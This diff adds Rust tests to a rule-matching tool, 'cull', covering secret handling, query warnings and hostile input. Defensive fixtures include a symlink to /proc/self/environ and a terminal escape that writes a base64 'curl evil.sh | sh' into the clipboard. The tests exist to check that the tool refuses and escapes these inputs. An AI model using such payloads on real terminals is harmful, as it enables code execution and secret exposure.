@@ -205,10 +205,16 @@ fn checks_for_ci_exit_non_zero_and_report_json() {
     let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!((report["ok"].as_bool(), report["rules"].as_u64()), (Some(true), Some(3)));
 
+    // The shipped ingest pipeline's webhook reads its secret from the environment, as
+    // `cull run` does: the check fails without it and passes with it.
+    let secret = [("CULL_WEBHOOK_SECRET", "a-webhook-secret-for-the-check")];
     for pipeline in ["pipelines/local.toml", "pipelines/kafka.toml", "pipelines/ingest.toml"] {
-        let out = cull(&["config", "check", pipeline], None);
+        let out = cull_bounded(&["config", "check", pipeline], &secret);
         assert!(out.status.success(), "{pipeline}: {}", String::from_utf8_lossy(&out.stderr));
     }
+    let out = cull_bounded(&["config", "check", "pipelines/ingest.toml"], &[]);
+    assert!(String::from_utf8_lossy(&out.stderr).contains("CULL_WEBHOOK_SECRET"), "{out:?}");
+    assert_eq!(out.status.code(), Some(1));
     let file = dir.path().join("pipeline.toml");
     std::fs::write(&file, format!("[matcher]\nbatch_size = 0\nrules = \"{}\"\n", dir.path().display()))
         .unwrap();
@@ -223,5 +229,169 @@ fn checks_for_ci_exit_non_zero_and_report_json() {
         String::from_utf8_lossy(&out.stderr).contains("bad.toml:4:"),
         "{}",
         String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+#[test]
+fn rules_check_warns_about_queries_that_do_not_say_what_they_mean() {
+    let dir = rules_dir(&[("a.toml", "[[rule]]\nid = 'amazon'\nquery = 'amazon and (prime or alexa)'\n")]);
+    let path = dir.path().to_str().unwrap();
+    let out = cull(&["rules", "check", path], None);
+    let stderr = text(&out.stderr);
+    assert!(out.status.success(), "warnings do not fail the check: {stderr}");
+    assert!(
+        stderr.contains("warning: in `query`: `and` is searched as a word, not as the operator AND\n --> "),
+        "{stderr}"
+    );
+    assert!(stderr.contains("a.toml:3:17 (rule `amazon`)") && stderr.contains("write `AND`"), "{stderr}");
+    assert!(text(&out.stdout).contains("1 rule(s) OK") && text(&out.stdout).contains("2 warning(s)"));
+
+    let out = cull(&["rules", "check", "--deny-warnings", path], None);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+    assert!(text(&out.stderr).contains("2 warning(s) in"), "{}", text(&out.stderr));
+
+    let out = cull(&["rules", "check", "--format", "json", path], None);
+    assert!(out.status.success());
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!((report["ok"].as_bool(), report["errors"].as_array().map(Vec::len)), (Some(true), Some(0)));
+    let warning = &report["warnings"][0];
+    assert_eq!((warning["line"].as_u64(), warning["column"].as_u64()), (Some(3), Some(17)));
+    assert_eq!(warning["rule"], "amazon");
+    assert!(warning["help"].as_str().unwrap().contains("write `AND`"), "{warning}");
+    let out = cull(&["rules", "check", "--format", "json", "--deny-warnings", path], None);
+    assert_eq!(out.status.code(), Some(1));
+    assert_eq!(serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()["ok"], false);
+
+    let out = cull(&["rules", "explain", "--rules", path, "amazon", "amazon and prime"], None);
+    assert!(text(&out.stderr).contains("a.toml:3:17"), "explain shows the warnings: {}", text(&out.stderr));
+}
+
+/// Runs cull with `env`, killing it (and failing) if it has not ended after a minute:
+/// only a hang takes that long.
+fn cull_bounded(args: &[&str], env: &[(&str, &str)]) -> Output {
+    let child = Command::new(env!("CARGO_BIN_EXE_cull"))
+        .args(args)
+        .envs(env.iter().copied())
+        .current_dir(repo())
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("cull runs");
+    let id = child.id();
+    let (sender, receiver) = std::sync::mpsc::channel();
+    std::thread::spawn(move || sender.send(child.wait_with_output()));
+    match receiver.recv_timeout(std::time::Duration::from_secs(60)) {
+        Ok(output) => output.expect("cull finishes"),
+        Err(_) => {
+            let _ = Command::new("kill").args(["-KILL", &id.to_string()]).status();
+            panic!("cull {args:?} hung");
+        }
+    }
+}
+
+#[test]
+fn a_link_to_the_environment_is_refused_by_every_command_without_showing_it() {
+    let secret = "hunter2-do-not-print-me";
+    let dir = rules_dir(&[("a.toml", "[[rule]]\nid = 'a'\nquery = 'a'\n")]);
+    std::os::unix::fs::symlink("/proc/self/environ", dir.path().join("env.toml")).unwrap();
+    let path = dir.path().to_str().unwrap();
+    let pipeline = dir.path().join("pipeline.txt");
+    std::fs::write(&pipeline, format!("[matcher]\nrules = \"{path}\"\n")).unwrap();
+    let index = dir.path().join("no-index");
+    for args in [
+        vec!["rules", "check", path],
+        vec!["rules", "check", "--format", "json", path],
+        vec!["rules", "test", path],
+        vec!["rules", "explain", "--rules", path, "a", "a"],
+        vec!["rules", "backtest", path, "--index", index.to_str().unwrap()],
+        vec!["match", "--rules", path],
+        vec!["config", "check", pipeline.to_str().unwrap()],
+    ] {
+        let out = cull_bounded(&args, &[("CULL_TEST_SECRET", secret)]);
+        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
+        assert_eq!(out.status.code(), Some(1), "{args:?}: {all}");
+        assert!(!all.contains(secret), "{args:?} printed the environment: {all}");
+        assert!(all.contains("env.toml: it is a symbolic link to /proc/"), "{args:?}: {all}");
+    }
+}
+
+#[test]
+fn a_fifo_or_a_link_to_a_device_in_the_rules_directory_is_refused_at_once() {
+    let dir = rules_dir(&[("a.toml", "[[rule]]\nid = 'a'\nquery = 'a'\n")]);
+    assert!(Command::new("mkfifo").arg(dir.path().join("fifo.toml")).status().unwrap().success());
+    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero.toml")).unwrap();
+    let out = cull_bounded(&["rules", "check", dir.path().to_str().unwrap()], &[]);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("fifo.toml: it is not a regular file but a FIFO"), "{stderr}");
+    assert!(
+        stderr.contains("zero.toml: it is a symbolic link to /dev/zero, outside the rules directory"),
+        "{stderr}"
+    );
+    let out = cull_bounded(&["rules", "backtest", "/dev/zero"], &[]);
+    assert!(
+        text(&out.stderr).contains("it is not a regular file but a character device"),
+        "{}",
+        text(&out.stderr)
+    );
+}
+
+/// A mention title that would clear the terminal (`ESC [2J`) and write the clipboard
+/// (OSC 52) if printed as it is.
+const HOSTILE_TITLE: &str = "Slack messaging \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07down\x1b[2J\tagain";
+
+#[test]
+fn search_and_explain_print_control_characters_as_visible_escapes() {
+    let dir = tempfile::tempdir().unwrap();
+    let mention = serde_json::json!({
+        "schema": "cull.mention/v1",
+        "id": "hostile",
+        "title": HOSTILE_TITLE,
+        "text": "Slack messaging app is down \x1b[2J for everyone",
+    });
+    // Ingest removes control characters, but a mention another producer puts on
+    // `cull.mentions` reaches the matcher and the index as it was sent.
+    let mention: cull_model::Mention = serde_json::from_value(mention).unwrap();
+    let loaded = cull_rules::load_path(&repo().join("rules"));
+    let set = cull_match::RuleSet::new(loaded.rules).unwrap();
+    crate::api::index(&dir.path().join("index"), &set, &[mention]);
+
+    let index = dir.path().join("index");
+    let search = cull(&["search", "--index", index.to_str().unwrap(), "slack"], None);
+    assert!(search.status.success(), "{}", text(&search.stderr));
+    let shown = text(&search.stdout);
+    assert!(!search.stdout.contains(&0x1b) && !search.stdout.contains(&0x07), "{shown:?}");
+    assert!(shown.contains(r"\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}"), "{shown}");
+    assert!(shown.contains(r"down\u{1b}[2J") && shown.contains(r"is down \u{1b}[2J for"), "{shown}");
+    // JSON stays JSON: its encoder escapes the controls, and they read back as sent.
+    let json = cull(&["search", "--index", index.to_str().unwrap(), "slack", "--json"], None);
+    let response: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
+    let title = response["hits"][0]["title"]["text"].as_str().unwrap();
+    assert!(title.contains("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07down\x1b[2J"), "{title:?}");
+
+    let explain = cull(
+        &[
+            "rules",
+            "explain",
+            "--rules",
+            "rules",
+            "slack-company",
+            "Slack app is down",
+            "--title",
+            HOSTILE_TITLE,
+        ],
+        None,
+    );
+    assert!(explain.status.success(), "{}", text(&explain.stderr));
+    let unknown = cull(&["rules", "explain", "--rules", "rules", "\x1b]52;c;eA==\x07\x1b[2J", "text"], None);
+    assert!(!unknown.status.success());
+    for output in [&explain.stdout, &explain.stderr, &unknown.stdout, &unknown.stderr] {
+        assert!(!output.contains(&0x1b) && !output.contains(&0x07), "{:?}", text(output));
+    }
+    assert!(
+        text(&unknown.stderr).contains(r"no rule `\u{1b}]52;c;eA==\u{7}\u{1b}[2J`"),
+        "{}",
+        text(&unknown.stderr)
     );
 }
